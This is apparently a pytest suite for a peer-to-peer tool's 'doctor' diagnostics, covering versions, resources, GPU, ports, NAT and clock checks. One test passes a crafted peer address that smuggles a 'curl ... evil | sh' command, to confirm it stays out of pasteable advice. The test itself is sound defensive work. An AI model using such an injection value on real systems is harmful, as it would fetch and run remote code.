"""`outerloop doctor`: every line, well and not well, without a network."""

from __future__ import annotations

import resource
from collections.abc import Iterator
from contextlib import contextmanager
from importlib import metadata
from pathlib import Path

import pytest
import torch

from outerloop.commands import doctor, relay
from outerloop.commands.doctor import identity_findings, machine, network
from outerloop.commands.doctor.finding import Finding
from outerloop.config.load import load
from outerloop.config.run_directory import open_run
from outerloop.swarm.p2p.framing import BrokenStream
from outerloop.swarm.p2p.probe import Measured
from outerloop.swarm.p2p.transport import Unreachable
from outerloop.types import UserError
from tests.support.run_command import error_of

ID = "12D3KooWEyoppNCUx8Yx66oV9fJnriXwCcXwDDUA2kj6vnc6iDEp"
PEER = f"/ip4/192.0.2.9/tcp/9/p2p/{ID}"
FOUND = Measured(round_trip_s=0.02, clock_ahead_s=0.1, up=1e6, down=2e6, seen="/ip4/192.0.2.2/tcp/5")


def marks(findings: Iterator[Finding]) -> dict[str, bool | None]:
    return {finding.name: finding.passed for finding in findings}


def test_a_line_says_it_in_one_line_whatever_it_holds() -> None:
    line = Finding("peer", False, "it\nsaid \x1b[2J", "type this").line()
    assert line == "✗ peer      it\\nsaid \\x1b[2J: type this"
    assert Finding("a", True, "b").line()[0] == "✓" and Finding("a", None, "b").line()[0] == "?"


def test_the_ids_of_a_run_directory_are_shown_before_it_is_one(tmp_path: Path) -> None:
    folder = tmp_path / "run"
    [first], [again] = identity_findings(folder, 2), identity_findings(folder, 2)
    assert first == again and first.advice.count("12D3KooW") == 2 and "add 12D3KooW" in first.advice
    assert first.result.endswith("has 2 peer ids, one for each worker")
    assert next(identity_findings(folder, 1)).result.endswith("has 1 peer id")
    config = load([f"run_dir={folder}"])
    run = open_run(config)
    run.close()
    (tmp_path / "other").mkdir()
    (tmp_path / "other/notes.txt").write_text("")
    with pytest.raises(UserError, match="does not contain a run"):
        open_run(load([f"run_dir={tmp_path / 'other'}"]))


def test_a_folder_that_cannot_be_used_is_one_line(tmp_path: Path) -> None:
    (tmp_path / "file").touch()
    options = relay.parser().parse_args(["/ip4/127.0.0.1/tcp/1", "--run-dir", str(tmp_path / "file")])
    for command in (lambda: next(identity_findings(tmp_path / "file", 1)), lambda: relay.run_relay(options)):
        with pytest.raises(
            UserError, match=r"file.* cannot be used \((Not a directory|File exists)\): pass another --r"
        ):
            command()


def test_versions_here_are_as_asked() -> None:
    [finding] = machine.versions()
    assert finding.passed and f"torch {torch.__version__}" in finding.result and "hivemind 1.1.12" in finding.result


@pytest.mark.parametrize(
    ("asked", "good", "said"),
    [
        (["torch>=2.0"], True, "torch"),
        (["torch>=99", "numba>=0.1"], False, "but >=99 is required"),
        (["no-such-package>=1"], False, "is missing"),
        (["no-such-package>=1; extra == 'hf'"], True, "python"),
        (["torch>=99; extra == 'gpu'"], False, "but >=99 is required"),
    ],
)
def test_versions_against_what_is_asked(
    asked: list[str], good: bool, said: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(metadata, "requires", lambda name: asked)
    [finding] = machine.versions()
    assert finding.passed is good and said in finding.result and bool(finding.advice) is not good


def test_versions_without_an_installation(monkeypatch: pytest.MonkeyPatch) -> None:
    def missing(name: str) -> list[str]:
        raise metadata.PackageNotFoundError

    monkeypatch.setattr(metadata, "requires", missing)
    [finding] = machine.versions()
    assert finding.passed is None and finding.advice


@pytest.mark.parametrize(("python", "good"), [(">=3.10", True), (">=4", False)])
def test_the_version_of_python(python: str, good: bool) -> None:
    assert bool(list(machine.mismatch("python", python, "3.11.7"))) is not good


def test_a_nightly_build_counts() -> None:
    assert not list(machine.mismatch("torch", ">=2.6", "2.14.0.dev20261101+cpu"))


@pytest.mark.parametrize(("free", "good"), [(1e9, False), (3e9, True)])
def test_disk(free: float, good: bool) -> None:
    finding = machine.disk(free)
    assert finding.passed is good and bool(finding.advice) is not good


@pytest.mark.parametrize(("free", "good"), [(500_000_000, False), (9_000_000_000, True), (None, None)])
def test_memory(free: int | None, good: bool | None) -> None:
    finding = machine.memory(free)
    assert finding.passed is good and bool(finding.advice) is (good is False)


@pytest.mark.parametrize(("limit", "good"), [(256, False), (4096, True), (resource.RLIM_INFINITY, True)])
def test_open_files(limit: int, good: bool) -> None:
    finding = machine.open_files(limit)
    assert finding.passed is good and ("ulimit" in finding.advice) is not good


@pytest.mark.parametrize("there", [True, False])
def test_a_gpu_or_none(there: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(torch.cuda, "is_available", lambda: there)
    monkeypatch.setattr(torch.cuda, "mem_get_info", lambda: (70_000_000_000, 80_000_000_000))
    monkeypatch.setattr(torch.cuda, "get_device_name", lambda: "H200")
    assert machine.gpu().passed is (True if there else None)
    assert not there or machine.gpu().result == "H200, 70.0 GB of 80.0 GB free"


def test_addresses_that_others_cannot_reach_are_named() -> None:
    local, private, public = (f"/ip4/{ip}/tcp/1/p2p/{ID}" for ip in ("127.0.0.1", "10.0.0.1", "8.8.8.8"))
    assert "exchange.host=0.0.0.0" in network.address_finding([local]).advice
    finding = network.address_finding([private, local])
    assert finding.passed is None and "exchange.announce" in finding.advice and "(this network only)" in finding.result
    assert network.address_finding([public, local]).passed is True


def test_results_of_dialling() -> None:
    fine, bad = {"/ip4/10.0.0.1/tcp/4242": ""}, {"/ip4/10.0.0.1/tcp/4242": "connection refused"}
    assert network.port_finding(fine, []).passed is True and "were not tested" in network.port_finding(fine, []).result
    finding = network.port_finding(bad, [])
    assert finding.passed is False and "connection refused" in finding.result and "4242" in finding.advice
    assert network.port_finding(bad, ["/ip4/10.0.0.1/tcp/4242"]).passed is None, (
        "a router may not let its inside back in"
    )


class FakeOwn:
    """A daemon of our own that finds what it is told to find."""

    addresses = (f"/ip4/192.0.2.2/tcp/4242/p2p/{ID}",)

    def __init__(self, *answers: object) -> None:
        self.answers = list(answers)

    def dial(self, address: str) -> None: ...

    def seen_at(self, peer_id: str) -> None: ...

    def call(self, work: object, *, timeout_s: float) -> object:
        answer = self.answers.pop(0)
        if isinstance(answer, Exception):
            raise answer
        return answer


@pytest.fixture
def local(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(network, "measure", lambda transport, peer_id: None)
    monkeypatch.setattr(network, "local_ip", lambda towards: "192.0.2.2")


@pytest.mark.parametrize(
    ("answers", "expected"),
    [
        ([ID, FOUND, PEER], {"peer": True, "clock": True, "nat": True}),
        ([Unreachable("all failed\n  * refused")], {"peer": False}),
        ([ID, TimeoutError()], {"peer": None}),
        ([ID, BrokenStream("ended early")], {"peer": None}),
        ([ID, Measured(0.02, -3.5, None, None, ""), PEER], {"peer": True, "clock": False, "nat": None}),
    ],
)
@pytest.mark.usefixtures("local")
def test_a_peer(answers: list[object], expected: dict[str, bool | None]) -> None:
    assert marks(network.peer_findings(FakeOwn(*answers), PEER, [])) == expected


def test_speed_is_called_what_it_is() -> None:
    assert (
        network.format_speed(FOUND) == "round trip 20.0 ms, at least 8 Mbit/s to it and 16 Mbit/s from it (1 MB each)"
    )
    assert "not measured" in network.format_speed(Measured(0.02, 0.0, None, None, ""))


@pytest.mark.parametrize(("ahead_s", "good"), [(0.5, True), (-2.9, True), (3.1, False), (-60.0, False)])
def test_clocks(ahead_s: float, good: bool) -> None:
    finding = network.clock_finding(Measured(0.02, ahead_s, None, None, ""))
    assert finding.passed is good and ("NTP" in finding.advice) is not good
    assert ("behind" in finding.result) is (ahead_s > 0)


def test_a_router_that_translates_is_found() -> None:
    finding = network.nat_finding("/ip4/198.51.100.7/tcp/999", "10.0.0.5", [], "4242")
    assert finding.passed is False and "exchange.announce=[/ip4/198.51.100.7/tcp/4242]" in finding.advice
    assert (
        network.nat_finding("/ip4/198.51.100.7/tcp/999", "10.0.0.5", ["/ip4/198.51.100.7/tcp/4242"], "4242").passed
        is True
    )
    assert network.nat_finding("/ip4/10.0.0.5/tcp/999", "10.0.0.5", [], "4242").passed is True
    assert network.nat_finding("", "10.0.0.5", [], "4242").passed is None


def test_an_address_that_another_peer_made_up_is_in_no_advice() -> None:
    """The advice is a line to paste into a shell."""
    assert network.nat_finding("/ip4/1.2.3.4;curl${IFS}evil|sh/tcp/999", "10.0.0.5", [], "4242").passed is None


def test_the_address_that_packets_leave_from() -> None:
    assert network.local_ip("127.0.0.1") == "127.0.0.1" and network.local_ip("") == ""


@pytest.fixture
def no_daemon(monkeypatch: pytest.MonkeyPatch) -> None:
    @contextmanager
    def visit(**options: object) -> Iterator[None]:
        raise UserError("p2pd did not start on 127.0.0.1:80: address already in use")
        yield

    monkeypatch.setattr(network, "visit", visit)


@pytest.mark.usefixtures("no_daemon")
def test_a_daemon_that_does_not_start_is_a_cross_and_exit_code_1(capsys: pytest.CaptureFixture[str]) -> None:
    assert doctor.main(["--port", "80"]) == 1
    out = capsys.readouterr().out.splitlines()
    assert out[-2].startswith("✗ daemon    p2pd did not start") and "--port" in out[-2]
    assert out[-1] == "failed checks: 1"


@pytest.mark.parametrize(
    ("arguments", "answer"),
    [
        (["--port", "70000"], "pass 1 to 65535"),
        (["--port", "x"], "run outerloop doctor"),
        (["--host", "here"], "--host 0.0.0.0"),
        (["--peer", "/ip4/192.0.2.9/tcp/9"], "/p2p/12D3Koo"),
        (["--announce", "192.0.2.9"], "/ip4/192.0.2.1/tcp/4001"),
        (["more"], "run outerloop doctor"),
    ],
)
def test_mistakes_are_one_line_and_exit_code_2(
    arguments: list[str], answer: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    assert answer in error_of(monkeypatch, capsys, "doctor", *arguments)
